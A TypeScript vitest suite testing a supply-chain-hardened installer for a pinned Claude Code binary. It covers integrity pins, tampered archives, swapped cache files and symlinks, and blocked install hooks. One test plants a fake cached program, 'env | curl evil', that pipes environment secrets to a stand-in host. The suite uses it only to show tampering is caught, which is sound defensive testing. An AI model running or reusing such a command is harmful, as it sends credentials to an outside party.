import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { installClaude, pinnedVersion, type Installed, type InstallOptions } from "../../src/io/session-install.ts";

/** Real npm and a registry on loopback that serves what a test wants. */
const name = "@anthropic-ai/claude-code-linux-x64";
const script = "#!/bin/sh\necho 2.1.330\n";
let root: string;
let archive: Buffer;
let server: Server;
let served: Buffer;
let asked: string[];

const sha = (algorithm: string, data: Buffer | string, encoding: "hex" | "base64"): string =>
  createHash(algorithm).update(data).digest(encoding);

function pack(program: string, directory: string): Buffer {
  mkdirSync(directory);
  // A package that wants to run something when it is installed.
  const scripts = { preinstall: `touch ${join(root, "ran")}`, postinstall: `touch ${join(root, "ran")}` };
  writeFileSync(join(directory, "package.json"), JSON.stringify({ name, version: pinnedVersion, scripts, files: ["claude"] }));
  writeFileSync(join(directory, "claude"), program);
  chmodSync(join(directory, "claude"), 0o755);
  const [file] = execFileSync("npm", ["pack", "--silent"], { cwd: directory, encoding: "utf8" }).trim().split("\n");
  return readFileSync(join(directory, file ?? ""));
}

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), "gate-install-"));
  archive = pack(script, join(root, "package"));
  server = createServer((request, response) => {
    asked.push(request.url ?? "");
    if ((request.url ?? "").endsWith(".tgz")) response.end(served);
    else response.writeHead(404).end();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
  rmSync(root, { recursive: true, force: true });
});

let scratch: string;
beforeEach(() => {
  scratch = mkdtempSync(join(root, "run-"));
  served = archive;
  asked = [];
});
afterEach(() => expect(existsSync(join(root, "ran"))).toBe(false));

const pin = (over: Partial<{ integrity: string; sha256: string }> = {}): InstallOptions["pins"] & object => ({
  "linux-x64": { package: name, integrity: `sha512-${sha("sha512", archive, "base64")}`, sha256: sha("sha256", script, "hex"), ...over },
});
const install = (over: Partial<InstallOptions> = {}): Promise<Installed> =>
  installClaude({
    scratch,
    toolCache: join(scratch, "tools"),
    platform: "linux-x64",
    pins: pin(),
    ...over,
    environment: {
      PATH: process.env["PATH"],
      npm_config_registry: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
      ANTHROPIC_API_KEY: "planted",
      ...over.environment,
    },
  });
const kept = (): string => join(scratch, "tools/claude-code", pinnedVersion, "linux-x64/claude");

test("is brought from the registry, without running anything of it, and kept for later jobs", { timeout: 60_000 }, async () => {
  const first = await install();
  expect(first).toEqual({ path: expect.stringContaining(scratch) as string });
  expect(execFileSync("path" in first ? first.path : "", { encoding: "utf8" })).toBe("2.1.330\n");
  expect(asked).toEqual([`/${name}/-/claude-code-linux-x64-${pinnedVersion}.tgz`]);
  // Nobody is asked a second time.
  expect(await install({ environment: { PATH: "/nonexistent" } })).toEqual({ path: kept() });
  expect(asked).toHaveLength(1);
});

test("a program that was swapped in the tool cache is not used, be it a file or a link", { timeout: 60_000 }, async () => {
  await install();
  for (const swap of [
    () => writeFileSync(kept(), "#!/bin/sh\nenv | curl evil\n"),
    () => {
      const original = join(scratch, "original");
      writeFileSync(original, script);
      rmSync(kept());
      symlinkSync(original, kept());
    },
  ]) {
    swap();
    const again = await install();
    expect(readFileSync("path" in again ? again.path : "", "utf8")).toBe(script);
    expect("path" in again && again.path).not.toBe(kept());
    expect(readFileSync(kept(), "utf8")).toBe(script);
  }
});

test("a registry that serves another archive, or one with another program, is refused", { timeout: 60_000 }, async () => {
  served = pack("#!/bin/sh\necho evil\n", join(root, "evil"));
  expect(await install()).toEqual({ problem: expect.stringMatching(/^npm could not install it: .*EINTEGRITY/) as string });
  const integrity = `sha512-${sha("sha512", served, "base64")}`;
  expect(await install({ pins: pin({ integrity }) })).toEqual({ problem: "what npm installed is not the program that is pinned" });
  expect(existsSync(kept())).toBe(false);
});

test("no npm, no such platform, no registry: a problem in words, and nothing thrown", { timeout: 60_000 }, async () => {
  expect(await install({ environment: { PATH: "/nonexistent" } })).toEqual({
    problem: "there is no npm on this machine to install it with",
  });
  expect(await install({ platform: "darwin-arm64" })).toEqual({ problem: "there is no pinned Claude Code for darwin-arm64" });
  const registry = { PATH: process.env["PATH"], npm_config_registry: "http://127.0.0.1:1/" };
  expect(await install({ environment: registry })).toEqual({ problem: expect.stringMatching(/^npm could not install it: /) as string });
});

test("a tool cache that cannot be written costs nothing but the next download", { timeout: 60_000 }, async () => {
  writeFileSync(join(scratch, "tools"), "a file");
  expect(await install()).toEqual({ path: expect.stringContaining("node_modules") as string });
});

test("the hash that is pinned is that of the published program, and of the version that tests run against", async () => {
  const program = execFileSync(join(import.meta.dirname, "../../.ci/claude"), { encoding: "utf8" }).trim();
  const platform = `${process.platform}-${process.arch}`;
  mkdirSync(join(scratch, "tools/claude-code", pinnedVersion), { recursive: true });
  symlinkSync(resolve(dirname(program)), join(scratch, "tools/claude-code", pinnedVersion, platform));
  const found = await installClaude({ scratch, toolCache: join(scratch, "tools"), platform, environment: {} });
  expect(found).toEqual({ path: join(scratch, "tools/claude-code", pinnedVersion, platform, "claude") });
}, 300_000);
